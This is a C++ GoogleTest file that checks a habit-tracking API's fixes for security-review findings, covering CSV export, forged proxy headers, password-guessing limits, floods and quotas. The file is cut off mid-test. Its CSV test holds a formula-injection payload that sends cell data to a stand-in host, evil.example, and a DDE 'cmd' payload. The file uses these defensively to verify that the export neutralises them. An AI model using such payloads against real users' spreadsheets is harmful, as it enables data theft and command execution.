// Abuse resistance (issue #16): each finding of the security review, carried out over real HTTP
// against the real binary, and shown to fail. docs/SECURITY.md's threat table names each test.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <string>

#include <openssl/sha.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <thread>

#include "api_fixture.hpp"
#include "dates.hpp"

namespace habitd::test {
namespace {

using domain::format_date;

class AbuseApi : public ApiTest {};

// HABITS_ABUSE_SCALE multiplies the floods (default 1; `make soak-abuse` runs ten times more) and
// the figures they print (never asserted: the machines are shared and noisy).
int scaled(int count) {
  const char* value = std::getenv("HABITS_ABUSE_SCALE");
  return count * (value ? std::max(1, std::atoi(value)) : 1);
}

void print_figures(const std::string& name, const boost::json::object& figures) {
  std::cout << "figures " << name << " " << backend_name() << " " << boost::json::serialize(figures) << std::endl;
}

// Signs `name` up on the server `http` talks to (password "a fine password"); returns the status.
int sign_up(HttpClient& http, const std::string& name) {
  return http
      .post("/api/v1/auth/register", {{"email", name + "@example.com"}, {"username", name}, {"password", "a fine password"}})
      .status;
}

// Signs `name` up and in; returns its access token as an Authorization header.
Headers signed_in(HttpClient& http, const std::string& name) {
  EXPECT_EQ(sign_up(http, name), 201);
  const auto login = http.post("/api/v1/auth/login", {{"login", name}, {"password", "a fine password"}});
  EXPECT_EQ(login.status, 200) << login.body;
  return bearer(std::string(login.json().at("access_token").as_string()));
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

// Finding 9: a name or note that a spreadsheet would run as a formula is text in the CSV export;
// the JSON export keeps it exact.
TEST_F(AbuseApi, CsvExportNeutralisesFormulasAndJsonStaysExact) {
  const Account a = register_user();
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
  const std::string today = format_date(today_in("UTC"));
  const std::string id = create_habit(a, {{"name", formula}, {"frequency", "daily"}, {"start_date", today}});
  create_log(a, id, {{"date", today}, {"notes", "@SUM(1+1)*cmd|' /C calc'!A0"}});

  const auto csv = client().get("/api/v1/export?format=csv", a.auth());
  ASSERT_EQ(csv.status, 200) << csv.body;
  EXPECT_NE(csv.body.find("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""), std::string::npos) << csv.body;
  EXPECT_NE(csv.body.find(",'@SUM(1+1)*cmd|' /C calc'!A0\r\n"), std::string::npos) << csv.body;
  EXPECT_EQ(csv.body.find(",=HYPERLINK"), std::string::npos) << csv.body;

  const auto json = client().get("/api/v1/export?format=json", a.auth());
  ASSERT_EQ(json.status, 200) << json.body;
  const auto document = json.json();
  const auto& habit = document.at("habits").as_array().at(0);
  EXPECT_EQ(habit.at("name").as_string(), formula);
  EXPECT_EQ(habit.at("logs").as_array().at(0).at("notes").as_string(), "@SUM(1+1)*cmd|' /C calc'!A0");
}

// Finding 12: a client's own method names do not make /metrics series of their own.
TEST_F(AbuseApi, MetricsLabelUnknownMethodsOther) {
  auto http = client();
  for (const char* method : {"BREW", "X-ATTACK-1", "PROPFIND"}) EXPECT_EQ(http.request(method, "/healthz").status, 405);
  const auto metrics = client().get("/metrics");
  ASSERT_EQ(metrics.status, 200);
  EXPECT_EQ(metrics.body.find("BREW"), std::string::npos);
  EXPECT_EQ(metrics.body.find("X-ATTACK"), std::string::npos);
  EXPECT_NE(metrics.body.find("method=\"other\""), std::string::npos) << metrics.body;
}

// Finding 7: behind a trusted proxy, a client that writes its own X-Forwarded-For (at the left of
// the proxy's line, or as a line of its own before it) cannot choose the address it is limited by.
class SpoofedAddressApi : public ApiTest {
 protected:
  static void SetUpTestSuite() {
    // Alone: the address budget is shared by every server on a database.
    start_server_alone({{"HABITS_TRUSTED_PROXIES", "10.0.0.0/8, 127.0.0.0/8"}, {"HABITS_LOGIN_FAILURES_PER_ADDRESS", "3"}});
  }
};

TEST_F(SpoofedAddressApi, ForgedForwardedForLinesDoNotEscapeTheAddressLimit) {
  auto http = client();
  int refused = 0;
  for (int i = 0; i < 6; ++i) {
    const std::string forged = "192.0.2." + std::to_string(i + 1);
    // The client's forged line first, then the line our proxy (10.1.1.1, trusted) adds, naming
    // the address it really received the request from.
    const Headers headers{{"X-Forwarded-For", forged}, {"X-Forwarded-For", "198.51.100.7, 10.1.1.1"}};
    const auto reply = http.request("POST", "/api/v1/auth/login",
                                    R"({"login":")" + unique("nobody") + R"(","password":"wrong password"})", headers);
    if (reply.status == 429) ++refused;
  }
  EXPECT_EQ(refused, 3) << "the address limit (3) must count the proxy-reported address, whatever the client forges";

  // Another real client behind the same proxy is not limited.
  const Headers other{{"X-Forwarded-For", "198.51.100.8"}};
  const auto reply =
      http.request("POST", "/api/v1/auth/login", R"({"login":")" + unique("nobody") + R"(","password":"wrong password"})", other);
  EXPECT_EQ(reply.status, 401) << reply.body;
}

// Finding 11: the secret kept beside the SQLite file must be the server's own: a symbolic link or
// a file others may read is refused at start-up, with a message that says why.
class JwtSecretFile : public ::testing::Test {
 protected:
  void SetUp() override { dir_ = make_temp_dir(); }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  [[nodiscard]] EnvVars env() const {
    return {{"HABITS_DATABASE_URL", "sqlite:" + dir_ + "/habits.db"}, {"HABITS_BCRYPT_COST", "4"}};
  }
  [[nodiscard]] std::string secret_path() const { return dir_ + "/habits.db.jwt-secret"; }
  static void write(const std::string& path, mode_t mode) {
    std::ofstream(path) << "a-secret-that-is-long-enough-to-be-accepted-0123456789\n";
    ::chmod(path.c_str(), mode);
  }
  // The server's start-up failure, or empty when it started.
  [[nodiscard]] std::string start_failure() const {
    try {
      ServerProcess server(env());
      return {};
    } catch (const std::exception& error) {
      return error.what();
    }
  }
  std::string dir_;
};

TEST_F(JwtSecretFile, ASymbolicLinkIsRefused) {
  const std::string target = dir_ + "/elsewhere";
  write(target, 0600);
  std::filesystem::create_symlink(target, secret_path());
  const std::string failure = start_failure();
  EXPECT_NE(failure.find("symbolic link"), std::string::npos) << failure;
}

TEST_F(JwtSecretFile, ASecretOthersCanReadIsRefused) {
  write(secret_path(), 0644);
  const std::string failure = start_failure();
  EXPECT_NE(failure.find("can be read or written by others"), std::string::npos) << failure;
  struct stat info {};
  ASSERT_EQ(::stat(secret_path().c_str(), &info), 0);
  EXPECT_EQ(info.st_mode & 0777, 0644u) << "the file is left for the operator to judge";
}

TEST_F(JwtSecretFile, AnOwnerOnlySecretIsUsed) {
  write(secret_path(), 0600);
  EXPECT_EQ(start_failure(), "");
}

// The first column of the first row of `sql`, as text, run by sqlite3 or psql on the database of
// a server started with `env`.
std::string query_database(const EnvVars& env, const std::string& sql) {
  std::string url;
  for (const auto& [name, value] : env)
    if (name == "HABITS_DATABASE_URL") url = value;
  const std::string command = url.rfind("sqlite:", 0) == 0 ? "sqlite3 '" + url.substr(7) + "' \"" + sql + "\""
                                                           : "psql '" + url + "' -tAc \"" + sql + "\"";
  std::string out;
  if (FILE* pipe = ::popen(command.c_str(), "r")) {
    std::array<char, 256> chunk{};
    while (std::fgets(chunk.data(), chunk.size(), pipe)) out += chunk.data();
    ::pclose(pipe);
  }
  while (!out.empty() && (out.back() == '\n' || out.back() == '\r')) out.pop_back();
  return out;
}

// A server whose database the test can query directly (sqlite3 or psql), to see what is stored.
class StoredApi : public ApiTest {
 protected:
  static void SetUpTestSuite() {
    env_ = backend_env();
    env_.emplace_back("HABITS_PURGE_INTERVAL", "1");
    server_ = std::make_unique<ServerProcess>(env_);
  }
  static std::string query(const std::string& sql) { return query_database(env_, sql); }
  static inline EnvVars env_;
};

std::string sha256_hex(const std::string& data) {
  unsigned char digest[SHA256_DIGEST_LENGTH];
  SHA256(reinterpret_cast<const unsigned char*>(data.data()), data.size(), digest);
  std::string out;
  for (const unsigned char byte : digest) {
    static constexpr char kHex[] = "0123456789abcdef";
    out += kHex[byte >> 4];
    out += kHex[byte & 15];
  }
  return out;
}

// Finding 3: a kept answer's fingerprint is no fast digest of a body holding passwords: one who
// reads the database cannot test guesses against it.
TEST_F(StoredApi, IdempotencyFingerprintsOfPasswordsAreKeyed) {
  const Account a = register_user();
  // Canonical already (sorted keys, no spaces), so the plain digest is easy to compute here.
  const std::string body = R"({"current_password":")" + a.password + R"(","new_password":"a new password 1"})";
  const auto changed = client().request("POST", "/api/v1/users/me/password", body,
                                        {{"Authorization", "Bearer " + a.access_token}, {"Idempotency-Key", "change-1"}});
  ASSERT_EQ(changed.status, 204) << changed.body;
  const std::string stored = query("SELECT fingerprint FROM idempotency_keys WHERE user_id = '" + a.id + "'");
  ASSERT_EQ(stored.size(), 64u) << stored;
  EXPECT_NE(stored, sha256_hex("POST /api/v1/users/me/password\n" + body));
}

// Finding 4: answers older than a key's lifetime are purged in the background, not only when
// the same key comes back.
TEST_F(StoredApi, ExpiredIdempotencyKeysArePurgedInTheBackground) {
  const Account a = register_user();
  const std::string id = create_habit(a, {{"name", "purged"}, {"frequency", "daily"}});
  const std::string inserted =
      query("INSERT INTO idempotency_keys (user_id, idem_key, fingerprint, status, created_at) VALUES ('" + a.id +
            "', 'long-ago', 'x', 201, 1000) RETURNING idem_key");
  ASSERT_EQ(inserted.rfind("long-ago", 0), 0u) << inserted;
  const auto fresh = client().request("POST", "/api/v1/habits", R"({"name":"kept","frequency":"daily"})",
                                      {{"Authorization", "Bearer " + a.access_token}, {"Idempotency-Key", "fresh"}});
  ASSERT_EQ(fresh.status, 201) << fresh.body;
  const std::string count = "SELECT COUNT(*) FROM idempotency_keys WHERE user_id = '" + a.id + "' AND idem_key = 'long-ago'";
  // HABITS_PURGE_INTERVAL is 1 s here: wait (generously, the machine is shared) for a purge.
  for (int i = 0; i < 300 && query(count) != "0"; ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_EQ(query(count), "0");
  EXPECT_EQ(query("SELECT COUNT(*) FROM idempotency_keys WHERE user_id = '" + a.id + "' AND idem_key = 'fresh'"), "1");
}

// Finding 4: an access token that outlived its account is 401 on every route, never a 500.
TEST_F(AbuseApi, ATokenOfADeletedAccountIs401Everywhere) {
  const Account a = register_user();
  const std::string today = format_date(today_in("UTC"));
  const std::string habit = create_habit(a, {{"name", "doomed"}, {"frequency", "daily"}});
  const auto deleted = client().request("DELETE", "/api/v1/users/me", R"({"password":")" + a.password + R"("})", a.auth());
  ASSERT_EQ(deleted.status, 204) << deleted.body;

  const std::string habit_path = "/api/v1/habits/" + habit;
  const std::vector<std::array<std::string, 3>> requests = {
      {"GET", "/api/v1/users/me", ""},
      {"PATCH", "/api/v1/users/me", R"({"timezone":"Europe/Berlin"})"},
      {"GET", "/api/v1/habits", ""},
      {"POST", "/api/v1/habits", R"({"name":"after","frequency":"daily"})"},
      {"GET", habit_path, ""},
      {"PATCH", habit_path, R"({"name":"renamed"})"},
      {"DELETE", habit_path, ""},
      {"GET", habit_path + "/streak", ""},
      {"POST", habit_path + "/logs", R"({"date":")" + today + R"("})"},
      {"GET", habit_path + "/logs", ""},
      {"POST", habit_path + "/skips", R"({"from":")" + today + R"(","to":")" + today + R"("})"},
      {"PATCH", habit_path + "/logs/" + today, R"({"notes":"x"})"},
      {"DELETE", habit_path + "/logs/" + today, ""},
      {"GET", habit_path + "/calendar", ""},
      {"GET", "/api/v1/today", ""},
      {"GET", "/api/v1/progress", ""},
      {"GET", "/api/v1/insights", ""},
      {"GET", "/api/v1/changes", ""},
      {"GET", "/api/v1/export", ""},
      {"POST", "/api/v1/import", R"({"format":"habitd-export","version":1,"habits":[]})"},
      {"GET", "/api/v1/tokens", ""},
      {"POST", "/api/v1/tokens", R"({"name":"late","scope":"read"})"},
      {"POST", "/api/v1/users/me/password", R"({"current_password":")" + a.password + R"(","new_password":"whatever 123"})"},
      {"DELETE", "/api/v1/users/me", R"({"password":")" + a.password + R"("})"},
  };
  auto http = client();
  for (const auto& [method, target, body] : requests) {
    const auto reply = http.request(method, target, body, a.auth());
    EXPECT_EQ(reply.status, 401) << method << " " << target << ": " << reply.body;
  }
}

// Findings 1 and 6: every way of testing a password counts in one budget per account.
class PasswordGuessingApi : public ApiTest {
 protected:
  static void SetUpTestSuite() {
    start_server({{"HABITS_LOGIN_FAILURES_PER_ACCOUNT", "3"}, {"HABITS_LOGIN_FAILURES_PER_ADDRESS", "100000"}});
  }
  // A stolen access token, and guesses at the password it does not reveal.
  static void expect_limited_after_three(const std::function<Reply(const std::string&)>& attempt, const Account& a) {
    for (int i = 0; i < 3; ++i) expect_problem(attempt("guess number " + std::to_string(i)), 422);
    const auto refused = attempt(a.password);  // even the right one, now
    expect_problem(refused, 429);
    EXPECT_GT(std::atoi(refused.header("retry-after").c_str()), 0);
  }
};

TEST_F(PasswordGuessingApi, PasswordChangeGuessesAre429AfterTheAccountBudget) {
  const Account a = register_user();
  expect_limited_after_three(
      [&](const std::string& guess) {
        return client().post("/api/v1/users/me/password", {{"current_password", guess}, {"new_password", "a new password 1"}},
                             a.auth());
      },
      a);
  // The login budget is the same one.
  expect_problem(client().post("/api/v1/auth/login", {{"login", a.username}, {"password", a.password}}), 429);
}

TEST_F(PasswordGuessingApi, AccountDeletionGuessesAre429AfterTheAccountBudget) {
  const Account a = register_user();
  expect_limited_after_three(
      [&](const std::string& guess) {
        return client().request("DELETE", "/api/v1/users/me", boost::json::serialize(boost::json::object{{"password", guess}}),
                                a.auth());
      },
      a);
  EXPECT_EQ(client().get("/api/v1/users/me", a.auth()).status, 200);
}

// bcrypt looks at 72 bytes and stops at a NUL: a "current password" with the right 72 bytes and
// more, or the right bytes and a NUL and more, is not the password.
TEST_F(PasswordGuessingApi, PasswordChecksRefuseWhatBcryptWouldTruncate) {
  const std::string password(72, 'p');
  const std::string name = unique("trunc");
  ASSERT_EQ(client()
                .post("/api/v1/auth/register", {{"email", name + "@example.com"}, {"username", name}, {"password", password}})
                .status,
            201);
  const auto login = client().post("/api/v1/auth/login", {{"login", name}, {"password", password}});
  ASSERT_EQ(login.status, 200) << login.body;
  const Headers auth = bearer(std::string(login.json().at("access_token").as_string()));
  const Account b = register_user();
  const std::vector<std::pair<Headers, std::string>> almost = {{auth, password + "and more"},
                                                               {b.auth(), b.password + std::string(1, '\0') + "and more"}};
  for (const auto& [headers, guess] : almost) {
    expect_problem(
        client().post("/api/v1/users/me/password", {{"current_password", guess}, {"new_password", "a new password 1"}}, headers),
        422);
    expect_problem(
        client().request("DELETE", "/api/v1/users/me", boost::json::serialize(boost::json::object{{"password", guess}}), headers),
        422);
  }
}

TEST_F(PasswordGuessingApi, LoginGuessesByEmailAndUsernameCountForOneAccount) {
  const Account a = register_user();
  for (const std::string& login : {a.email, a.username, a.email})
    expect_problem(client().post("/api/v1/auth/login", {{"login", login}, {"password", "wrong guess"}}), 401);
  expect_problem(client().post("/api/v1/auth/login", {{"login", a.username}, {"password", "wrong guess"}}), 429);
}

// Finding 2: a flood of sign-ups from one address (through our trusted proxy) does not lock out
// the logins of another: sign-ups are limited per address, a taken name costs no hash, and one
// address holds at most a share of the password queue.
class RegistrationFloodApi : public ApiTest {
 protected:
  static void SetUpTestSuite() {
    // A real bcrypt cost, so that hashes queue up as they would in production, and the default
    // sign-up limit (the PostgreSQL test settings lift it: backend_env()).
    start_server({{"HABITS_TRUSTED_PROXIES", "127.0.0.1"},
                  {"HABITS_BCRYPT_COST", "10"},
                  {"HABITS_PASSWORD_THREADS", "1"},
                  {"HABITS_REGISTRATIONS_PER_ADDRESS", "300"}});
  }
};

TEST_F(RegistrationFloodApi, AnotherAddressLogsInDuringARegistrationFloodFromOne) {
  const Account victim = register_user();
  const Headers victims_address{{"X-Forwarded-For", "198.51.100.20"}};
  std::atomic<bool> flooding{true};
  std::atomic<int> flood_answers{0};
  std::atomic<int> flood_errors{0};
  std::atomic<int> flood_created{0};
  std::atomic<int> flood_limited{0};
  std::vector<std::thread> flood;
  const auto started = std::chrono::steady_clock::now();
  // More connections than the password queue has places (64): without fair admission they fill it.
  for (int t = 0; t < scaled(72); ++t)
    flood.emplace_back([&, t] {
      auto http = client();
      for (int i = 0; flooding; ++i) {
        const std::string name = "flood" + std::to_string(::getpid()) + "_" + std::to_string(t) + "_" + std::to_string(i);
        const auto reply =
            http.request("POST", "/api/v1/auth/register",
                         R"({"email":")" + name + R"(@example.com","username":")" + name + R"(","password":"flood password"})",
                         {{"X-Forwarded-For", "203.0.113.66"}});
        ++flood_answers;
        if (reply.status == 201) ++flood_created;
        if (reply.status == 429 || reply.status == 503) {
          ++flood_limited;
          std::this_thread::sleep_for(std::chrono::milliseconds(10));  // still a flood, but not a busy loop
        }
        if (reply.status != 201 && reply.status != 429 && reply.status != 503) ++flood_errors;
      }
    });
  // Let the flood fill the queue first.
  while (flood_answers < 200) std::this_thread::sleep_for(std::chrono::milliseconds(10));
  auto http = client();
  double slowest_login = 0;
  for (int i = 0; i < scaled(5); ++i) {
    const auto asked = std::chrono::steady_clock::now();
    const auto login =
        http.request("POST", "/api/v1/auth/login",
                     R"({"login":")" + victim.username + R"(","password":")" + victim.password + R"("})", victims_address);
    slowest_login = std::max(slowest_login, seconds_since(asked));
    EXPECT_EQ(login.status, 200) << login.body;
  }
  flooding = false;
  for (auto& thread : flood) thread.join();
  EXPECT_EQ(flood_errors, 0);
  print_figures("registration_flood", {{"flood_connections", scaled(72)},
                                       {"flood_requests", flood_answers.load()},
                                       {"flood_created", flood_created.load()},
                                       {"flood_refused", flood_limited.load()},
                                       {"logins", scaled(5)},
                                       {"slowest_login_s", slowest_login},
                                       {"duration_s", seconds_since(started)}});
}

TEST_F(AbuseApi, RegistrationsPerAddressAreLimited) {
  EnvVars env = backend_env_alone();  // alone: on PostgreSQL the limit is shared among the database's processes
  env.emplace_back("HABITS_REGISTRATIONS_PER_ADDRESS", "3");
  ServerProcess limited(env);
  HttpClient http(limited.port());
  std::vector<int> statuses;
  for (int i = 0; i < 5; ++i) statuses.push_back(sign_up(http, unique("signup")));
  EXPECT_EQ(statuses, (std::vector<int>{201, 201, 201, 429, 429}));
  const std::string name = unique("signup");
  const auto refused =
      http.post("/api/v1/auth/register", {{"email", name + "@example.com"}, {"username", name}, {"password", "a fine password"}});
  expect_problem(refused, 429);
  EXPECT_GT(std::atoi(refused.header("retry-after").c_str()), 0);
}

// Finding 10: an anonymous client cannot make the server wait for (and buffer) a large body: the
// credential is checked from the headers, and the answer comes before any of the body is sent.
TEST_F(AbuseApi, AnAnonymousLargeBodyIsRefusedBeforeItIsRead) {
  auto http = client();
  const std::string reply = http.raw(
      "POST /api/v1/import HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000000\r\n\r\n", 5000);
  EXPECT_EQ(reply.rfind("HTTP/1.1 401", 0), 0u) << reply.substr(0, 200);
}

// Finding 5: one user cannot exhaust the server.
class QuotaApi : public ApiTest {
 protected:
  static void SetUpTestSuite() {
    start_server({{"HABITS_MAX_HABITS_PER_USER", "3"}, {"HABITS_MAX_LOGS_PER_USER", "5"}, {"HABITS_MAX_TOKENS_PER_USER", "2"}});
  }
};

TEST_F(QuotaApi, HabitsLogsAndTokensBeyondTheQuotasAre422) {
  const Account a = register_user();
  const auto today = today_in("UTC");
  const std::string start = format_date(today - std::chrono::days(30));
  std::vector<std::string> ids;
  for (int i = 0; i < 3; ++i)
    ids.push_back(create_habit(a, {{"name", "h" + std::to_string(i)}, {"frequency", "daily"}, {"start_date", start}}));
  const auto fourth = client().post("/api/v1/habits", {{"name", "one too many"}, {"frequency", "daily"}}, a.auth());
  expect_problem(fourth, 422);
  EXPECT_EQ(error_fields(fourth), std::vector<std::string>{"habits"});

  for (int day = 0; day < 5; ++day) create_log(a, ids[0], {{"date", format_date(today - std::chrono::days(day))}});
  const auto sixth = client().post("/api/v1/habits/" + ids[1] + "/logs", {{"date", format_date(today)}}, a.auth());
  expect_problem(sixth, 422);
  EXPECT_EQ(error_fields(sixth), std::vector<std::string>{"logs"});
  expect_problem(client().post("/api/v1/habits/" + ids[1] + "/skips",
                               {{"from", format_date(today - std::chrono::days(3))}, {"to", format_date(today)}}, a.auth()),
                 422);

  const Account b = register_user();
  boost::json::array logs;
  for (int day = 0; day < 6; ++day) logs.push_back(boost::json::object{{"date", format_date(today - std::chrono::days(day))}});
  const boost::json::object document{
      {"format", "habitd-export"},
      {"version", 1},
      {"habits", boost::json::array{{{"name", "imported"}, {"frequency", "daily"}, {"start_date", start}, {"logs", logs}}}}};
  const auto import = client().request("POST", "/api/v1/import", boost::json::serialize(document), b.auth());
  expect_problem(import, 422);
  EXPECT_EQ(client().get("/api/v1/habits", b.auth()).json().at("total").as_int64(), 0);

  for (int i = 0; i < 2; ++i)
    EXPECT_EQ(client().post("/api/v1/tokens", {{"name", "t" + std::to_string(i)}, {"scope", "read"}}, a.auth()).status, 201);
  expect_problem(client().post("/api/v1/tokens", {{"name", "t3"}, {"scope", "read"}}, a.auth()), 422);
}

// The quotas are counts kept by the writes (migration 0020): they follow deletions, skip ranges
// over days already logged, habit deletion and imports.
TEST_F(QuotaApi, TheCountsFollowDeletesSkipsAndImports) {
  const Account a = register_user();
  const auto today = today_in("UTC");
  const auto day = [&](int back) { return format_date(today - std::chrono::days(back)); };
  const std::string start = day(30);
  const std::string first = create_habit(a, {{"name", "first"}, {"frequency", "daily"}, {"start_date", start}});
  const std::string second = create_habit(a, {{"name", "second"}, {"frequency", "daily"}, {"start_date", start}});
  for (int back = 0; back < 5; ++back) create_log(a, first, {{"date", day(back)}});
  const auto log_path = [](const std::string& habit) { return "/api/v1/habits/" + habit + "/logs"; };
  expect_problem(client().post(log_path(second), {{"date", day(0)}}, a.auth()), 422);
  // A deleted log frees its place.
  ASSERT_EQ(client().del(log_path(first) + "/" + day(4), a.auth()).status, 204);
  create_log(a, second, {{"date", day(0)}});
  expect_problem(client().post(log_path(second), {{"date", day(1)}}, a.auth()), 422);
  // A skip range over days that all have logs adds none, so it passes at the quota.
  const auto skips = client().post("/api/v1/habits/" + first + "/skips", {{"from", day(3)}, {"to", day(0)}}, a.auth());
  EXPECT_EQ(skips.status, 201) << skips.body;
  EXPECT_EQ(skips.json().at("skipped").as_int64(), 0);
  // Deleting a habit frees its habit and all its logs.
  ASSERT_EQ(client().del("/api/v1/habits/" + first, a.auth()).status, 204);
  for (int back = 1; back < 5; ++back) create_log(a, second, {{"date", day(back)}});
  expect_problem(client().post(log_path(second), {{"date", day(5)}}, a.auth()), 422);
  (void)create_habit(a, {{"name", "third"}, {"frequency", "daily"}});
  (void)create_habit(a, {{"name", "fourth"}, {"frequency", "daily"}});
  expect_problem(client().post("/api/v1/habits", {{"name", "fifth"}, {"frequency", "daily"}}, a.auth()), 422);

  // An import counts what it brings.
  const Account b = register_user();
  const boost::json::object document{
      {"format", "habitd-export"},
      {"version", 1},
      {"habits", boost::json::array{{{"name", "imported"},
                                     {"frequency", "daily"},
                                     {"start_date", start},
                                     {"logs", boost::json::array{{{"date", day(0)}}, {{"date", day(1)}}}}},
                                    {{"name", "also imported"}, {"frequency", "daily"}, {"start_date", start}}}}};
  const auto import = client().request("POST", "/api/v1/import", boost::json::serialize(document), b.auth());
  ASSERT_EQ(import.status, 201) << import.body;
  (void)create_habit(b, {{"name", "third"}, {"frequency", "daily"}});
  expect_problem(client().post("/api/v1/habits", {{"name", "fourth"}, {"frequency", "daily"}}, b.auth()), 422);
}

long long metric(const std::string& text, const std::string& series) {
  const auto at = text.find(series + " ");
  return at == std::string::npos ? -1 : std::stoll(text.substr(at + series.size() + 1));
}

// Finding 5: query parameters an endpoint does not read do not make answers of their own, so they
// cannot defeat the read cache and its single flight.
TEST_F(AbuseApi, QueryParametersAReadIgnoresShareItsCachedAnswer) {
  const Account a = register_user();
  (void)create_habit(a, {{"name", "cached"}, {"frequency", "daily"}});
  const std::string computed = "habitd_read_cache_responses_total{result=\"computed\"}";
  ASSERT_EQ(client().get("/api/v1/progress", a.auth()).status, 200);
  const long long before = metric(client().get("/metrics").body, computed);
  auto http = client();
  const auto started = std::chrono::steady_clock::now();
  for (int i = 0; i < scaled(50); ++i) ASSERT_EQ(http.get("/api/v1/progress?x=" + std::to_string(i), a.auth()).status, 200);
  for (int i = 0; i < scaled(50); ++i)
    ASSERT_EQ(http.get("/api/v1/habits?limit=50&cachebuster=" + std::to_string(i), a.auth()).status, 200);
  const double took = seconds_since(started);
  const long long after = metric(client().get("/metrics").body, computed);
  EXPECT_LE(after - before, 1) << "each distinct ?x= was computed afresh";
  print_figures("cache_busting_reads", {{"reads", 2 * scaled(50)}, {"computed", after - before}, {"duration_s", took}});
  // What a read does read still tells answers apart.
  const auto one = client().get("/api/v1/habits?limit=1", a.auth());
  EXPECT_EQ(one.json().at("limit").as_int64(), 1);
}

// Finding 5: imports wait in a bounded queue of their own; beyond it, 429 with Retry-After.
TEST_F(AbuseApi, AnImportFloodIs429WithRetryAfter) {
  EnvVars env = backend_env();
  env.emplace_back("HABITS_MAX_PENDING_IMPORTS", "1");
  env.emplace_back("HABITS_MAX_LOGS_PER_USER", "100000000");  // the flood is of imports, not of one account's data
  ServerProcess server(env);
  HttpClient setup(server.port());
  const Headers importer = signed_in(setup, unique("importer"));
  const auto today = today_in("UTC");
  boost::json::array habits;
  for (int i = 0; i < 10; ++i) {
    boost::json::array logs;
    for (int j = 0; j < 365; ++j)
      logs.push_back({{"date", format_date(today - std::chrono::days(j))}, {"notes", "imported in a flood"}});
    habits.push_back({{"name", "flood " + std::to_string(i)},
                      {"frequency", "daily"},
                      {"start_date", format_date(today - std::chrono::days(400))},
                      {"logs", std::move(logs)}});
  }
  const std::string body =
      boost::json::serialize(boost::json::object{{"format", "habitd-export"}, {"version", 1}, {"habits", std::move(habits)}});
  std::atomic<int> created{0}, limited{0}, other{0};
  std::atomic<bool> go{false};
  std::vector<std::thread> flood;
  const auto started = std::chrono::steady_clock::now();
  for (int t = 0; t < scaled(8); ++t)
    flood.emplace_back([&] {
      HttpClient http(server.port());
      while (!go) std::this_thread::yield();
      const auto reply = http.request("POST", "/api/v1/import", body, importer);
      if (reply.status == 201) {
        ++created;
      } else if (reply.status == 429 && std::atoi(reply.header("retry-after").c_str()) > 0) {
        ++limited;
      } else {
        ++other;
      }
    });
  go = true;
  for (auto& thread : flood) thread.join();
  EXPECT_EQ(other, 0);
  EXPECT_GE(created, 1);
  EXPECT_GE(limited, 1) << "eight imports at once, one place in the queue";
  print_figures("import_flood", {{"imports", scaled(8)},
                                 {"body_bytes", static_cast<long long>(body.size())},
                                 {"created", created.load()},
                                 {"refused_429", limited.load()},
                                 {"duration_s", seconds_since(started)}});
}

// Request rate limits: every /api/v1 answer says where the client stands (IETF RateLimit fields);
// /healthz is never limited.
TEST_F(AbuseApi, EveryApiAnswerCarriesRateLimitFieldsAndHealthzNone) {
  // Alone, with the default limits: on PostgreSQL they are shared among the database's processes.
  EnvVars env = backend_env_alone();
  env.emplace_back("HABITS_RATE_LIMIT_PER_USER", "6000");
  env.emplace_back("HABITS_RATE_LIMIT_PER_ADDRESS", "6000");
  ServerProcess server(env);
  HttpClient http(server.port());
  const Headers auth = signed_in(http, unique("fields"));
  const auto mine = http.get("/api/v1/users/me", auth);
  ASSERT_EQ(mine.status, 200);
  EXPECT_EQ(mine.header("ratelimit-policy"), "\"user\";q=6000;w=60");
  EXPECT_EQ(mine.header("ratelimit").rfind("\"user\";r=", 0), 0u) << mine.header("ratelimit");
  const auto anonymous = http.get("/api/v1/habits");
  EXPECT_EQ(anonymous.status, 401);
  EXPECT_EQ(anonymous.header("ratelimit-policy"), "\"address\";q=6000;w=60");
  const auto nowhere = http.get("/api/v1/no-such-thing");
  EXPECT_EQ(nowhere.status, 404);
  EXPECT_TRUE(nowhere.has_header("ratelimit"));
  const auto health = http.get("/healthz");
  EXPECT_EQ(health.status, 200);
  EXPECT_FALSE(health.has_header("ratelimit"));
  EXPECT_FALSE(health.has_header("ratelimit-policy"));
}

TEST(RequestRateLimit, BeyondTheQuotaIs429WithRetryAfterPerUser) {
  EnvVars env = backend_env_alone();  // alone: on PostgreSQL the limit is shared among the database's processes
  env.emplace_back("HABITS_RATE_LIMIT_PER_USER", "5");
  env.emplace_back("HABITS_RATE_LIMIT_WINDOW", "3600");
  ServerProcess server(env);
  HttpClient http(server.port());
  const std::string run = std::to_string(::getpid()) + "_" + std::to_string(std::time(nullptr) % 100000);
  const Headers busy = signed_in(http, "busy" + run);
  const Headers calm = signed_in(http, "calm" + run);
  for (int i = 0; i < 5; ++i) EXPECT_EQ(http.get("/api/v1/habits", busy).status, 200);
  const auto refused = http.get("/api/v1/habits", busy);
  expect_problem(refused, 429);
  EXPECT_GT(std::atoi(refused.header("retry-after").c_str()), 0);
  EXPECT_EQ(refused.header("ratelimit").rfind("\"user\";r=0;t=", 0), 0u) << refused.header("ratelimit");
  EXPECT_EQ(http.get("/api/v1/habits", calm).status, 200);  // another user is not limited
  EXPECT_EQ(http.get("/healthz").status, 200);
}

// Sessions a person can see and end.
TEST_F(AbuseApi, SessionsCanBeListedAndEnded) {
  const Account a = register_user();  // its login is session 1
  auto second =
      client().request("POST", "/api/v1/auth/login", R"({"login":")" + a.username + R"(","password":")" + a.password + R"("})",
                       {{"User-Agent", "HabitApp/2.1 (iPhone) \xC3\xA9"}});
  ASSERT_EQ(second.status, 200);
  const Headers phone = bearer(std::string(second.json().at("access_token").as_string()));
  const std::string phone_refresh(second.json().at("refresh_token").as_string());
  auto third = client().post("/api/v1/auth/login", {{"login", a.username}, {"password", a.password}});
  const std::string third_refresh(third.json().at("refresh_token").as_string());

  auto list = client().get("/api/v1/sessions", phone);
  ASSERT_EQ(list.status, 200) << list.body;
  const auto items = list.json().at("items").as_array();
  ASSERT_EQ(items.size(), 3u);
